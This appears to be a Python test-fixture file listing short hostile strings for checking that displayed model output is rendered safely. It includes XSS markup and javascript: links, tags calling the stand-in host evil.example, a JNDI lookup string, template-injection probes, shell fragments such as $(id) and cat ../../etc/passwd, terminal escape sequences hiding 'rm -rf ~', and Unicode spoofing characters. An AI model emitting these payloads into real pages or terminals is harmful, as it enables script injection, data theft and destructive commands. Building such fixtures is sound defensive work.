"""Texts that somebody might write, or have a model write, so that something happens where they are shown.

Each is short, so that every beginning of it can be tried: answers come piece by piece.
"""

from __future__ import annotations

MARKUP = (
    "<script>document.title='taken'</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=document.title='taken'>",
    "<img/src='https://evil.example/spy.png'>",
    "<svg onload=document.title='taken'><animate onbegin=alert(1)></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe srcdoc='<script>parent.document.title=1</script>'></iframe>",
    "<object data=data:text/html,x></object><embed src=//evil.example>",
    "<form action=//evil.example><input name=title><button formaction=javascript:alert(1)>x</button></form>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css><style>*{background:url(//evil.example/x)}</style>",
    "<p style='background:url(//evil.example/x)'>a</p>",
    "<video src=//evil.example autoplay onloadstart=alert(1)></video><details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>a</a><div id=input><a id=send name=thread>x</a></div>",
    "</code></pre></div></article><script>alert(1)</script>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template><noscript><img src=x onerror=alert(1)></noscript>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62; &colon;&Tab;",
    "<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</x>",
)
LINKS = (
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1)) [b](java\tscript:alert(1)) [c](&#106;avascript:alert(1))",
    "[a](\x01javascript:alert(1)) [b](javascript&colon;alert(1)) [c](java%0ascript:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>) [b](vbscript:x) [c](blob:x) [d](file:///etc/passwd)",
    "![a](javascript:alert(1)) ![b](https://evil.example/spy.png?q=secret) ![c](data:image/svg+xml,<svg onload=x>)",
    "[a]: javascript:alert(1)\n[a] [b][a] ![c][a]",
    "[a]( javascript:alert(1) 'x') [b](<javascript:alert(1)>) [c](//evil.example) [d](/v1/models) [e](#x)",
    "<javascript:alert(1)> <https://good.example/\" onmouseover=alert(1)> https://good.example/'onclick=x",
    '[a](https://good.example/"onclick="alert(1)) [b](https://good.example "t" onclick=x)',
    "[![a](javascript:alert(1))](javascript:alert(2)) [[a](https://evil.example)](https://good.example)",
    "[click](https://good.example@evil.example) [https://good.example](https://evil.example)",
    "http://[::1]:8080/ https://\u202egnp.exe https://xn--80ak6aa92e.example mailto:a@b.example?body=<script>",
)
TERMINAL = (
    "\x1b[2J\x1b[H\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07\x1b]52;c;ZXZpbA==\x07\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "\x9b31m\x9d0;title\x9c\x90q\x9c\x84\x85\x8d",
    "\x1bP+q544e\x1b\\\x1b_Ga=T\x1b\\\x1b^x\x1b\\\x1bc\x1b[6n\x1b[c",
    "a\rb\x08\x08c\x0b\x0c\x0e\x0f\x00\x07\x7f\x1a\x05",
    "```sh\nrm -rf ~\x1b[1A\x1b[2Kls\n```\n`\x1b[8m`",
    "| a\x1b[5m | b |\n|---|---|\n| \x1b]0;x\x07 | \x9b1m |",
)
UNICODE = (
    "\u202egnp.exe\u202c \u2066a\u2069 \u200f\u200e\u061c",
    "pass\u200bword\ufeff \u2060 \U000e0041\U000e0042",
    "\x00\ufffe\uffff\ufdd0 \U0010ffff",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334" * 20,
)
TEMPLATES = (
    "{{ 7 * 191 }} {% for i in range(10**9) %}x{% endfor %} {# gone #}",
    "{{ messages.__class__.__base__.__subclasses__() }} {{ raise_exception('x') }} ${7*191} <%= 7*191 %> #{7*191}",
    "{%- set messages = [] -%}{% endfor %}{% endif %}{% raw %}{{ bos_token }}{% endraw %}",
    "%s %n %(x)s {0.__class__} {} $(id) `id` ; id | cat ../../etc/passwd ${jndi:ldap://evil.example/a}",
)
DEEP = (
    "> " * 200 + "x",
    "".join("  " * n + "- a\n" for n in range(60)),
    "*a **b " * 100,
    "[" * 300 + "a" + "](https://a.example)" * 300,
    "`" * 150 + " a " + "`" * 149,
    "<" * 300 + "a" + ">" * 300,
    "\\" * 300 + "|" * 300 + "\n" + "|-" * 300,
    "a" * 400 + "!" * 40 + "_" * 400,
)
TEXTS = (*MARKUP, *LINKS, *TERMINAL, *UNICODE, *TEMPLATES, *DEEP)
